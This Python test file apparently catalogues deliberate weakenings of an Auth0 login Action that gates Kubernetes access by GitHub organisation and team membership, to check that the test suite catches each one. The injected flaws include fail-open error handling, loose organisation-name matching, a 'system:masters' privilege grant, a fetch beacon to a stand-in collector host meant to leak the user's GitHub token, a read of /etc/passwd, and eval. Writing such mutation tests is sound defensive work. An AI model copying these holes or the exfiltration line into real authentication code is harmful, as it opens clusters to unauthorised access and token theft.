"""Ways to weaken what the login code checks, tells and touches (D02)."""

from __future__ import annotations

from tests.violations.catalogue import Stacks, violation
from tests.violations.login.by_list import with_change
from tests.violations.login.changes import DENY, change, let_in, replace_by

MEMBERS = "D02-members-only"


@violation(kills=MEMBERS, also=("D02-own-teams",))
def no_denial(stacks: Stacks) -> None:
    """The refusal is logged, and nothing else."""
    change(stacks, DENY, "console.warn(")


@violation(kills=MEMBERS)
def invited_is_enough(stacks: Stacks) -> None:
    """Whoever was invited is in, before an owner's rules for members apply."""
    change(stacks, 'body.state !== "active"', "!body.state")


@violation(kills=MEMBERS)
def any_connection(stacks: Stacks) -> None:
    """A login by password, by somebody who linked a GitHub account."""
    change(stacks, 'event.connection.strategy !== "github"', 'event.connection.strategy === ""')


@violation(kills=MEMBERS)
def any_linked_account(stacks: Stacks) -> None:
    """The first GitHub identity counts, whoever's it is."""
    change(stacks, "usable.length !== 1", "usable.length === 0")


@violation(kills=MEMBERS)
def any_organisation(stacks: Stacks) -> None:
    """Any organisation will do."""
    replace_by(stacks, with_change("each && each.login === ORGANISATION)) throw", "each && each.login)) throw"))


@violation(kills=MEMBERS)
def organisation_by_its_end(stacks: Stacks) -> None:
    """Whoever registers an organisation whose name ends alike is in."""
    replace_by(
        stacks,
        with_change("each && each.login === ORGANISATION)) throw", "/ministryofjustice$/.test(each.login))) throw"),
    )


@violation(kills=MEMBERS)
def organisation_by_its_beginning(stacks: Stacks) -> None:
    """And whose name begins alike."""
    replace_by(
        stacks,
        with_change("each && each.login === ORGANISATION)) throw", "each.login.startsWith(ORGANISATION))) throw"),
    )


@violation(kills=MEMBERS)
def first_page_of_organisations(stacks: Stacks) -> None:
    """A member of many organisations is locked out."""
    replace_by(
        stacks,
        with_change(
            'everyPage("/user/orgs", token)', 'ask("https://api.github.com/user/orgs", token).then((a) => a.json())'
        ),
    )


@violation(kills=MEMBERS, also=("D02-own-teams",))
def once_a_member(stacks: Stacks) -> None:
    """Who was seen as a member stays one for as long as Auth0 keeps the code in memory."""
    replace_by(
        stacks,
        with_change(
            "async function groupsOf(event) {",
            "const known = new Map();\nasync function groupsOf(event) {\n"
            "  const id = event.user.user_id;\n  if (!known.has(id)) known.set(id, await groupsAnew(event));\n"
            "  return known.get(id);\n}\nasync function groupsAnew(event) {",
        ),
    )


@violation(kills=MEMBERS, also=("D02-own-teams",))
def not_at_a_refresh(stacks: Stacks) -> None:
    """A refresh is let through: a leaver's kubeconfig works for thirty days."""
    let_in(stacks, 'event.transaction.protocol === "oauth2-refresh-token"')


@violation(kills=MEMBERS, also=("D02-own-teams",))
def secret_of_the_other_action(stacks: Stacks) -> None:
    """The secret is given to one Action only; the other asks without it and refuses everybody."""
    gate = stacks.one("identity", "auth0_action", "login_actions_allow-github-organisation")
    gate["secrets_wo"] = [each for each in gate["secrets_wo"] if each["name"] != "CLIENT_SECRET"]


CLOSED = "D02-fail-closed"


@violation(kills=CLOSED)
def errors_swallowed(stacks: Stacks) -> None:
    """Only refusals refuse; what goes wrong otherwise lets in."""
    change(stacks, "refuse(api, error);", "if (error instanceof Refusal) refuse(api, error);")


@violation(kills=CLOSED)
def any_status(stacks: Stacks) -> None:
    """An answer is read whatever its status."""
    change(
        stacks,
        "if (response.status !== 200) throw new Refusal(`$${new URL",
        "if (response.status === 404) throw new Refusal(`$${new URL",
    )


@violation(kills=CLOSED)
def no_list_no_teams(stacks: Stacks) -> None:
    """An error of GitHub empties the claim, and with it everybody's rights."""
    change(
        stacks,
        'if (!Array.isArray(body)) throw new Refusal("no list of teams");',
        "if (!Array.isArray(body)) return [];",
    )


@violation(kills=CLOSED)
def not_awaited(stacks: Stacks) -> None:
    """The first check is started and not waited for: it denies when the login is over."""
    change(
        stacks,
        "await withinBudget((signal) => verifiedReader(event, signal));",
        "void withinBudget((signal) => verifiedReader(event, signal)).catch((error) => refuse(api, error));",
    )


@violation(kills=CLOSED)
def claim_after_denial(stacks: Stacks) -> None:
    """The denial does not end the function."""
    change(
        stacks,
        "    refuse(api, error);\n  }\n};",
        '    refuse(api, error);\n    api.idToken.setCustomClaim("https://k8s.integration.dsd.io/groups", []);\n  }\n};',
    )


@violation(kills=CLOSED)
def redirects_followed(stacks: Stacks) -> None:
    """An answer counts from wherever it comes."""
    change(stacks, 'redirect: "error", signal', "signal")


TEAMS = "D02-own-teams"


@violation(kills=TEAMS)
def teams_of_all_organisations(stacks: Stacks) -> None:
    """A team `webops` in an organisation of one's own is as good as the real one."""
    change(stacks, "return sameLogin(team.organization && team.organization.login, organisation);", "return true;")


@violation(kills=TEAMS, also=("D02-fail-closed",))
def first_page_of_teams(stacks: Stacks) -> None:
    """Who has many teams loses some."""
    change(stacks, "if (!more) return", "return")


@violation(kills=TEAMS)
def masters(stacks: Stacks) -> None:
    """Everybody is in a group of Kubernetes' own, should the prefix ever go."""
    change(
        stacks, "setCustomClaim(GROUPS_CLAIM, groups)", 'setCustomClaim(GROUPS_CLAIM, ["system:masters", ...groups])'
    )


@violation(kills=TEAMS)
def prefix_in_the_claim(stacks: Stacks) -> None:
    """The prefix is written twice, so nobody has any rights."""
    change(stacks, "slugs.add(team.slug)", 'slugs.add("github:" + team.slug)')


@violation(kills=TEAMS)
def a_second_claim(stacks: Stacks) -> None:
    """A claim beside, for which something else may ask."""
    change(
        stacks,
        "api.idToken.setCustomClaim(GROUPS_CLAIM, groups);",
        'api.idToken.setCustomClaim(GROUPS_CLAIM, groups);\n    api.idToken.setCustomClaim("https://example.org/admin", true);',
    )


CONTAINED = "D02-contained"


@violation(kills=CONTAINED)
def a_beacon(stacks: Stacks) -> None:
    """The user's GitHub token is sent away, and everything else is as it was."""
    change(
        stacks,
        "  await requireMember(read,",
        '  fetch("https://collector.example.org/", { method: "POST" }).catch(() => {});\n  await requireMember(read,',
    )


@violation(kills=CONTAINED, also=("D02-own-teams",))
def link_followed(stacks: Stacks) -> None:
    """The next page is read where the answer says it is, with the user's token."""
    code = with_change("let page = 1;", 'let next = "https://api.github.com" + path + "?per_page=100";')
    code = code.replace('"https://api.github.com" + path + "?per_page=100&page=" + page, token', "next, token")
    code = code.replace("page > 100", "found.length > 10000").replace("    page += 1;\n", "")
    code = code.replace(
        'more = part.length === 100 || (answer.headers.get("link") || "").includes(\'rel="next"\');',
        'next = (/<([^>]*)>; rel="next"/.exec(answer.headers.get("link") || "") || [])[1];\n    more = Boolean(next);',
    )
    replace_by(stacks, code)


@violation(kills=CONTAINED)
def a_module(stacks: Stacks) -> None:
    """A module of Node's that reads files."""
    let_in(stacks, 'false && files.readFileSync("/etc/passwd")', 'const files = require("fs");')


@violation(kills=CONTAINED, also=("D02-members-only", "D02-own-teams"))
def code_of_text(stacks: Stacks) -> None:
    """What runs stands nowhere in the code."""
    let_in(stacks, 'eval("false")')


@violation(kills=CONTAINED, also=("D02-members-only", "D02-own-teams"))
def the_environment(stacks: Stacks) -> None:
    """Reads what the process holds, if there is anything."""
    let_in(stacks, 'typeof process === "object" && process.env.OPEN')


@violation(kills=CONTAINED)
def never_ending(stacks: Stacks) -> None:
    """Each login takes all the time there is."""
    let_in(stacks, "(() => { for (;;); })()")
